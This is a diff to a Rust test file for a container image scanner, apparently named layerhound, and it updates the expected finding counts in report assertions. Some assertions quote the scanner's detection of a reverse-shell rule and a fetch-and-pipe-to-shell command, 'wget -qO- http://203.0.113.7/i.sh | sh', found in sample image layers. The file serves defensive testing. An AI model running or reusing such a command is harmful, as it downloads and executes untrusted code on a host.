@@ -110,14 +110,14 @@ fn json_with_the_inventory_and_baseline_matches_the_report_schema() {
 fn text_groups_findings_by_severity_with_place_layer_and_state_and_redacts_secrets() {
     let text = read(&samples_run().file("report.txt"));
     assert!(text.contains("  image 1: webapp-debug (linux/amd64), 5 layers verified\n"), "{text}");
-    assert!(text.contains("    findings: 2 critical, 7 high, 4 medium, 4 low\n"), "{text}");
+    assert!(text.contains("    findings: 2 critical, 6 high, 4 medium, 4 low\n"), "{text}");
     assert!(text.contains("    CRITICAL (2)\n      layerhound:reverse_shell_dev_tcp [high confidence]"), "{text}");
     assert!(text.contains("        /etc/cron.d/backup (layer 4, present)\n"), "{text}");
     assert!(text.contains("        /app/.env (layer 1, deleted)\n"), "{text}");
     assert!(text.contains("wget -qO- http://203.0.113.7/i.sh | sh"), "layers with created_by: {text}");
     assert!(!text.contains("wJalrXUtnFEMI") && !text.contains("ghp_FAKEexample"), "secrets are redacted: {text}");
     assert!(!text.contains('\x1b'), "no colour in a file");
-    assert!(text.ends_with("3 inputs, 4 images, 17 layers, 53 findings, 0 errors; complete\n"), "{text}");
+    assert!(text.ends_with("3 inputs, 4 images, 17 layers, 49 findings, 0 errors; complete\n"), "{text}");
 }
 
 #[test]
@@ -127,7 +127,7 @@ fn stdout_is_json_when_piped_and_text_is_coloured_only_when_asked() {
     assert_eq!(report["summary"]["images"], 1);
     assert!(stderr(&piped).contains("  image 0: docker.io/library/webapp:1.0: 4 layers verified"), "the summary stays on stderr");
     let plain = layerhound(&["scan", "samples/webapp.docker.tar", "--format", "text", "--quiet"]);
-    assert!(String::from_utf8_lossy(&plain.stdout).contains("    HIGH (5)\n"));
+    assert!(String::from_utf8_lossy(&plain.stdout).contains("    HIGH (4)\n"));
     assert!(plain.stderr.is_empty(), "--quiet: {}", stderr(&plain));
     let coloured = layerhound(&["scan", "samples/webapp.docker.tar", "--format", "text", "--color", "always", "-q"]);
     assert!(String::from_utf8_lossy(&coloured.stdout).contains("\x1b[31mHIGH"));
